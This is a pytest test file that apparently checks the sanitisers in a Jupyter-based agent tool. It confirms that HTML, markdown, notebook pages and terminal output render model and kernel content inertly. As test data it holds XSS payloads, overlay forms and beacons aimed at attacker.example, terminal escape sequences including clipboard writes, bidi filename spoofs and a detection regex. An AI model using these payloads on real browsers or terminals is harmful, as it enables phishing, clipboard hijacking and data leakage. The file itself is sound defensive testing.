"""Kernel, model and notebook content is shown, never obeyed: the ``safe`` modules' policies, and a test
that holds every renderer to them (as ``test_door.py`` holds file I/O to the door).

Pure tests: no kernel, no browser (``test_browser_hostile.py`` and ``test_terminal_pty.py`` show the same
payloads to chromium and to a real terminal)."""

from __future__ import annotations

import ast
import base64
import io
import re
from pathlib import Path
from typing import Any

import nbformat
import pytest
from rich.console import Console

import kernel_agent
from kernel_agent.cli.render import JsonRenderer, LiveRenderer, QuietRenderer, Renderer
from kernel_agent.cli.show import show_run
from kernel_agent.events import (
    AnswerReady,
    CodeReady,
    Event,
    ExecutionFinished,
    Notice,
    RoundFinished,
    RunError,
    RunFinished,
)
from kernel_agent.notebook.html import render_node
from kernel_agent.notebook.load import load_run
from kernel_agent.safe.html import (
    CONTAINER_STYLE,
    Shown,
    clean_html,
    clean_page,
    contained,
    markdown_html,
    markdown_source,
    safe_bundle,
)
from kernel_agent.safe.http import DOCUMENT_CSP, document_headers, path_url, served_type
from kernel_agent.safe.terminal import INVISIBLE, one_line, printable

PACKAGE = Path(kernel_agent.__file__).parent

# What the model's code or reply would try in a page: run a script, leave the page, cover it, fetch out.
HTML_PAYLOADS = [
    "<script>window.PWNED=1</script>",
    "<img src=x onerror=window.PWNED=2>",
    '<a href="javascript:window.PWNED=3">click</a>',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
    '<base href="https://attacker.example/">',
    '<iframe src="https://attacker.example/"></iframe>',
    '<form action="https://attacker.example/" style="position:fixed;inset:0;z-index:9999"><input name=key></form>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;margin-top:-50px">Session expired</div>',
    "<style>body{display:none}</style>",
    '<img src="https://attacker.example/beacon.png">',
    '<svg onload="window.PWNED=4"><circle r="4"/></svg>',
    '<object data="https://attacker.example/x.swf"></object>',
]
# Active or external in markup (the same words as text, escaped, are harmless and may stay).
FORBIDDEN = re.compile(
    r"<(script|meta|base|iframe|form|input|style|object|svg)\b|<[^>]*\son\w+\s*=|<[^>]*style=\"[^\"]*(position|z-index|margin)"
    r"|(href|src|action)=\"?\s*(javascript:|https?://attacker)",
    re.IGNORECASE,
)
# What the kernel's output or the model's text would send a terminal.
ESCAPES = {
    "OSC 52 (clipboard)": "\x1b]52;c;UFdORUQ=\x07",
    "OSC 0 (title)": "\x1b]0;PWNED\x07",
    "OSC 8 (link)": "\x1b]8;;https://attacker.example/\x1b\\click\x1b]8;;\x1b\\",
    "DCS (query)": '\x1bP$q"p\x1b\\',
    "CSI cursor": "\x1b[5;5H\x1b[2J\x1b[1A\x1b[2K",
    "C1 CSI": "\x9b31m",
    "C1 OSC": "\x9d0;PWNED\x9c",
}
TERMINAL_PAYLOAD = "before " + " ".join(ESCAPES.values()) + " after"


@pytest.mark.parametrize("payload", HTML_PAYLOADS)
def test_clean_html_leaves_nothing_active_or_external(payload: str) -> None:
    cleaned = clean_html(f"<p>kept</p>{payload}")
    assert "<p>kept</p>" in cleaned
    assert not FORBIDDEN.search(cleaned), cleaned


def test_what_renders_today_still_renders() -> None:
    table = (
        '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th>a</th></tr></thead>'
        '<tbody><tr><td style="color: red">1</td></tr></tbody></table>'
    )
    assert clean_html(table) == (  # the class goes: it names the page's styles (see the next test)
        '<table border="1"><thead><tr style="text-align:right"><th>a</th></tr></thead>'
        '<tbody><tr><td style="color:red">1</td></tr></tbody></table>'
    )
    figure = '<img src="data:image/png;base64,iVBORw0KGgo=" alt="figure" width="300">'
    assert clean_html(figure) == figure
    assert clean_html('<a href="https://example.org/">x</a>') == (
        '<a href="https://example.org/" rel="noopener noreferrer">x</a>'
    )
    page = markdown_html("**bold** and $a_1 * b_2 \\\\ c$\n\n|x|y|\n|-|-|\n|1|2|\n\n$$x<y$$")
    assert "<strong>bold</strong>" in page and "<td>1</td>" in page
    assert "$a_1 * b_2 \\\\ c$" in page and "$$x&lt;y$$" in page  # math left whole for the typesetter


# What an output would wear to borrow the page's own styles and hooks: JupyterLab's dialog and hover box
# (fixed over the page), a toast container (fixed, z-index 9999), an element's id, a form's and a popover's.
BORROWING = (
    '<div class="jp-Dialog" id="jp-main-dock-panel" name="key" form="login" popover="auto" slot="s" part="p"'
    ' data-command="app:quit" for="key-input">Session expired</div><span class="jp-HoverBox Toastify__toast-container">'
    'x</span><td headers="cell-id=1">1</td><a id="cell-id=abc" class="anchor-link" href="#Head">¶</a>'
)
NAMES = re.compile(r"\s(class|id|name|form|popover|slot|part|for|headers|data-[\w-]+)=", re.IGNORECASE)


def test_content_cannot_borrow_the_pages_styles_or_hooks() -> None:
    for cleaned in (
        clean_html(BORROWING),
        markdown_html("Look " + BORROWING),
        safe_bundle({"text/html": BORROWING}).data["text/html"],
        safe_bundle({"text/markdown": BORROWING}).data["text/html"],
    ):
        assert "Session expired" in cleaned and not NAMES.search(cleaned), cleaned
    # our page: the template's own classes and cell ids stay, no others (a cell tag, a dialog)
    page = (
        '<html><head><style>.x{}</style></head><body><div id="cell-id=ab12" class="jp-Cell jp-CodeCell '
        'celltag_x jp-Dialog"><div class="jp-OutputArea-output highlight" id="jp-top-panel">'
        '<span class="k ansi-red-fg Toastify__toast-container">if</span></div></div></body></html>'
    )
    body = clean_page(page, DOCUMENT_CSP)
    assert '<div id="cell-id=ab12" class="jp-Cell jp-CodeCell">' in body
    assert '<div class="jp-OutputArea-output highlight">' in body and '<span class="k ansi-red-fg">' in body
    assert "jp-Dialog" not in body and "celltag_" not in body and "Toastify" not in body and "jp-top" not in body


def test_a_shown_bundle_is_contained_in_its_own_box() -> None:
    shown = contained(safe_bundle({"text/html": BORROWING, "text/plain": "x"}))
    box = re.fullmatch(r'<div style="([^"]*)">(.*)</div>', shown.data["text/html"], re.DOTALL)
    assert box is not None and box.group(1) == CONTAINER_STYLE and not NAMES.search(box.group(2))
    for rule in ("contain: paint", "position: relative", "z-index: 0", "isolation: isolate"):
        assert rule in CONTAINER_STYLE
    assert shown.data["text/plain"] == "x"
    assert contained(Shown({"text/plain": "y"})) == Shown({"text/plain": "y"})  # nothing to contain


def test_markdown_raw_html_is_cleaned_or_shown_as_text() -> None:
    text = "Result <img src=x onerror=window.PWNED=1> and `<b>code</b>`\n\n<script>window.PWNED=2</script>"
    assert not FORBIDDEN.search(markdown_html(text))
    assert "<code>&lt;b&gt;code&lt;/b&gt;</code>" in markdown_html(text)
    source = markdown_source(text + "\n\n![beacon](https://attacker.example/b.png) [x](javascript:alert(1))")
    assert "<img" not in source and "<script" not in source and "](javascript:" not in source
    assert "`<b>code</b>`" in source  # code stays code
    for trick in ("\\`<img src=x onerror=1>`", "`a\n\n<img src=x onerror=1>\n\n`", "```a`b\n<img src=x onerror=1>"):
        assert "<img" not in markdown_source(trick), trick


def test_a_bundle_keeps_only_what_is_safe_to_render() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="window.PWNED=1"><circle r="4"/></svg>'
    shown = safe_bundle(
        {"application/javascript": "window.PWNED=1", "image/svg+xml": svg, "text/plain": "figure"},
        {"image/svg+xml": {"width": 100}, "isolated": True},
    )
    assert set(shown.data) == {"text/html", "text/plain"}
    image = re.fullmatch(
        r'<img src="data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)" alt="SVG figure">', shown.data["text/html"]
    )
    assert image is not None and base64.b64decode(image.group(1)).decode() == svg  # the SVG whole, as an image
    html = safe_bundle({"text/html": HTML_PAYLOADS[1], "image/png": "iVBORw0KGgo=", "text/markdown": "*x*"})
    assert html.data["image/png"] == "iVBORw0KGgo=" and not FORBIDDEN.search(html.data["text/html"])
    assert safe_bundle({"image/png": "not base64 <script>"}).data == {
        "text/plain": "[output of type image/png not shown]"
    }
    assert (
        safe_bundle({"text/markdown": "<img src=x onerror=1>**b**"}).data["text/html"]
        == "<p><img><strong>b</strong></p>\n"
    )


def test_printable_shows_every_escape_and_keeps_text() -> None:
    shown = printable(TERMINAL_PAYLOAD + "\n\tindented\nprogress 10%\rprogress 100%\n\x1b[31mred\x1b[0m")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown)
    assert "␛]52;c;UFdORUQ=␇" in shown and "␛P$q" in shown and "<U+009B>31m" in shown
    assert shown.endswith("\n\tindented\nprogress 100%\nred")  # a progress bar's last state; colours dropped


# Names the kernel writes that would forge the tool's own lines, or show in another order than they are.
FORGED = "fake\n✔ Answer: 42 (verified)\nsales.csv"
REVERSED = "report\u202efdp.exe"
HIDDEN = "a\u200bb\u200cc\u200dd\u2060e\ufefff\u2066g\u2069h\u200ei\u200fj\u061ck\u2028l\u2029m\U000e0041n\u00ado"
INVISIBLE_CHARS = re.compile(f"[{INVISIBLE}]")


def test_one_line_shows_line_breaks_and_invisible_characters() -> None:
    assert one_line(FORGED) == "fake\\n✔ Answer: 42 (verified)\\nsales.csv"
    assert one_line("a\rb\tc\x1b]0;t\x07\x9b") == "a\\rb\\tc␛]0;t␇<U+009B>"
    assert one_line(REVERSED) == "report<U+202E>fdp.exe"
    shown = one_line(HIDDEN)
    assert not INVISIBLE_CHARS.search(shown) and not re.search(r"[\x00-\x1f\x7f-\x9f]", shown)
    assert shown.startswith("a<U+200B>b<U+200C>c<U+200D>d<U+2060>e<U+FEFF>f<U+2066>g") and "<U+E0041>n" in shown
    for kept in ("Zürich", "中文", "naïve café", "👍🏽 ✔ €", "👨\u200d👩\u200d👧", "❤\ufe0f\u200d🔥", "עברית"):
        assert one_line(kept) == kept  # text, and a joiner that only joins emoji, as it is
    assert one_line(Path("/tmp/x\ny")) == "/tmp/x\\ny"


def test_printable_keeps_lines_but_not_bidi_or_zero_width() -> None:
    shown = printable(f"def f():\n\treturn '{REVERSED}'  # {HIDDEN}\nZürich 中文")
    assert shown.splitlines()[0] == "def f():" and "\treturn 'report<U+202E>fdp.exe'" in shown
    assert not INVISIBLE_CHARS.search(shown) and shown.endswith("\nZürich 中文")


def test_the_invisible_set_holds_every_format_character() -> None:
    import sys
    import unicodedata

    missed = [
        f"U+{code:04X}"
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in ("Cf", "Zl", "Zp") and not INVISIBLE_CHARS.match(chr(code))
    ]
    assert missed == []


def test_file_urls_carry_no_raw_control_or_bidi_character() -> None:
    assert path_url("out/sales.csv") == "out/sales.csv"
    assert path_url("report\u202efdp.exe") == "report%E2%80%AEfdp.exe"
    assert path_url("a b\n#?%\u200b.csv") == "a%20b%0A%23%3F%25%E2%80%8B.csv"


def test_documents_are_served_inert() -> None:
    headers = document_headers("report.html")
    assert headers["Content-Disposition"] == 'attachment; filename="report.html"'
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert (
        "default-src 'none'" in headers["Content-Security-Policy"] and "sandbox" in headers["Content-Security-Policy"]
    )
    assert "script-src" not in DOCUMENT_CSP
    assert document_headers("t.html", inline=True)["Content-Disposition"] == 'inline; filename="t.html"'
    assert document_headers("é.csv")["Content-Disposition"] == "attachment; filename*=utf-8''%C3%A9.csv"


def test_files_are_served_as_passive_types_or_as_bytes() -> None:
    passive = {"a.png": "image/png", "b.JPG": "image/jpeg", "c.csv": "text/csv", "d.json": "application/json"}
    assert {name: served_type(name) for name in passive} == passive
    for active in ("page.html", "page.htm", "chart.svg", "x.xhtml", "x.xml", "x.js", "x.mjs", "x.pdf", "noext"):
        assert served_type(active) == "application/octet-stream", active


def test_the_notebook_page_is_cleaned_and_carries_its_csp() -> None:
    nb = nbformat.v4.new_notebook(metadata={"kernel_agent": {"task": "</title><script>window.PWNED=1</script>"}})
    data = {"text/html": "".join(HTML_PAYLOADS), "text/plain": "x"}
    nb.cells = [
        nbformat.v4.new_markdown_cell("Look: " + "".join(HTML_PAYLOADS)),
        nbformat.v4.new_code_cell("1", outputs=[nbformat.v4.new_output("display_data", data=data)]),
        nbformat.v4.new_raw_cell("<script>window.PWNED=5</script>", metadata={"raw_mimetype": "text/html"}),
    ]
    page = render_node(nb, "hostile")
    body = page[page.index("<body") :]
    assert not FORBIDDEN.search(body)
    head = page[: page.index("<body")]
    assert "<script" not in head and head.index('http-equiv="Content-Security-Policy"') < head.index("<title>")


# -- every renderer goes through the safe modules --------------------------------------------------------


def _calls(path: Path) -> list[tuple[str, ast.Call, list[str]]]:
    """Every call in ``path``: the called name, the node, and the names of the functions it sits in."""
    found: list[tuple[str, ast.Call, list[str]]] = []

    def visit(node: ast.AST, within: list[str]) -> None:
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            within = [*within, node.name]
        if isinstance(node, ast.Call):
            func = node.func
            name = func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""
            found.append((name, node, within))
        for child in ast.iter_child_nodes(node):
            visit(child, within)

    visit(ast.parse(path.read_text()), [])
    return found


MODULES = sorted(PACKAGE.rglob("*.py"))


def test_only_the_magic_views_two_helpers_hand_raw_bundles_to_jupyter() -> None:
    raw = [
        (path.relative_to(PACKAGE).as_posix(), within[-1] if within else "")
        for path in MODULES
        for _name, call, within in _calls(path)
        if any(k.arg == "raw" for k in call.keywords) and "kernel/inside" not in path.as_posix()
    ]  # kernel/inside runs in the kernel's own process: it makes outputs, it shows none
    assert sorted(raw) == [("magic/view.py", "_redraw"), ("magic/view.py", "_show")]
    view = PACKAGE / "magic" / "view.py"
    text = view.read_text()
    assert "text/html" not in text and "text/markdown" not in text  # HTML and markdown come from safe.html
    assert "from ..safe.html import" in text


def test_html_pages_and_sanitizers_live_in_one_place_each() -> None:
    users = {
        name: sorted(
            path.relative_to(PACKAGE).as_posix() for path in MODULES if re.search(rf"\b{name}\b", path.read_text())
        )
        for name in ("HTMLExporter", "nh3", "markdown_it", "HTMLResponse", "rich.markdown")
    }
    assert users["HTMLExporter"] == ["notebook/html.py"]
    assert users["nh3"] == ["safe/html.py"] and users["markdown_it"] == ["safe/html.py"]
    assert users["HTMLResponse"] == ["server/app.py"]
    assert users["rich.markdown"] == ["cli/render.py"]  # the CLI's one markdown: markdown() prints it safely
    render_node_source = (PACKAGE / "notebook" / "html.py").read_text()
    assert "return clean_page(body, DOCUMENT_CSP)" in render_node_source
    app = (PACKAGE / "server" / "app.py").read_text()
    assert 'HTMLResponse(body, headers=document_headers(f"{thread_id}.html", inline=True))' in app
    assert "app.add_middleware(ShownAs)" in app


def _events_with(payload: str) -> list[Event]:
    from kernel_agent.records import Round, Run, RunInfo
    from kernel_agent.result import ExecutionResult

    outputs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stdout", "text": payload},
        {"output_type": "stream", "name": "stderr", "text": payload},
        {"output_type": "execute_result", "data": {"text/plain": payload}, "metadata": {}, "execution_count": 1},
        {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
    ]
    result = ExecutionResult(status="error", outputs=tuple(outputs), note=payload)
    round_ = Round(index=1, reply=payload, reasoning=payload, code=payload, result=result)
    run = Run(info=RunInfo(task=payload, model=payload), rounds=(round_,), answer=payload)
    return [
        CodeReady(round=1, reasoning=payload, code=payload),
        ExecutionFinished(round=1, result=result, artifacts=()),
        RoundFinished(round=round_),
        AnswerReady(round=1, answer=payload),
        Notice(message=payload),
        RunError(message=payload, error_type="ModelError"),
        RunFinished(run=run),
    ]


def test_every_terminal_renderer_shows_the_escapes_and_keeps_its_own_colours() -> None:
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="standard", width=100)
    live = LiveRenderer(console)
    quiet_out, quiet_err, json_out = io.StringIO(), io.StringIO(), io.StringIO()
    renderers: list[Renderer] = [live, QuietRenderer(quiet_out, quiet_err), JsonRenderer(json_out)]
    for event in _events_with(TERMINAL_PAYLOAD):
        for renderer in renderers:
            renderer.handle(event)
    live.close()
    for written in (out.getvalue(), quiet_out.getvalue(), quiet_err.getvalue(), json_out.getvalue()):
        assert not re.search(r"\x1b[\]P]|\x1b\[5;5H|\x1b\[2J|[\x80-\x9f]", written)
    assert re.search(r"\x1b\[[0-9;]*m", out.getvalue())  # our own colours still reach the terminal
    assert "␛]52;c;UFdORUQ=" in out.getvalue()


def test_show_prints_a_hostile_notebook_inertly(tmp_path: Path) -> None:
    nb = nbformat.v4.new_notebook(metadata={"kernel_agent": {"task": TERMINAL_PAYLOAD}})
    stream = nbformat.v4.new_output("stream", name="stdout", text=TERMINAL_PAYLOAD)
    nb.cells = [
        nbformat.v4.new_markdown_cell(TERMINAL_PAYLOAD),
        nbformat.v4.new_code_cell(f"print({TERMINAL_PAYLOAD!r})", outputs=[stream]),
        nbformat.v4.new_markdown_cell(f"## Answer\n\n{TERMINAL_PAYLOAD}"),
    ]
    path = tmp_path / "hostile.ipynb"
    nbformat.write(nb, path)
    out = io.StringIO()
    show_run(Console(file=out, force_terminal=True, color_system="standard", width=100), load_run(path))
    assert not re.search(r"\x1b[\]P]|\x1b\[5;5H|\x1b\[2J|[\x80-\x9f]", out.getvalue())
    assert out.getvalue().count("␛]52;c;UFdORUQ=") >= 2 and re.search(r"\x1b\[[0-9;]*m", out.getvalue())


def test_the_personas_live_cells_carry_only_inert_content() -> None:
    from kernel_agent.jupyter.live import _shown_cell
    from kernel_agent.notebook.export import METADATA_KEY

    def cell(kind: str, role: str, **fields: object) -> dict[str, object]:
        return {"cell_type": kind, "metadata": {METADATA_KEY: {"role": role}}, **fields}

    html = {"text/html": "".join(HTML_PAYLOADS), "application/javascript": "window.PWNED=1", "text/plain": "x"}
    output = {"output_type": "display_data", "data": html, "metadata": {}}
    shown = _shown_cell(cell("code", "code", source="show()", outputs=[output]))
    assert set(shown["outputs"][0]["data"]) == {"text/html", "text/plain"}
    assert not FORBIDDEN.search(shown["outputs"][0]["data"]["text/html"])
    reasoning = _shown_cell(cell("markdown", "reasoning", source="".join(HTML_PAYLOADS)))
    assert "<" not in str(reasoning["source"])
    thinking = "<details>\n<summary>Model reasoning</summary>\n\n&lt;script&gt;\n\n</details>"
    assert _shown_cell(cell("markdown", "thinking", source=thinking))["source"] == thinking  # escaped by the export
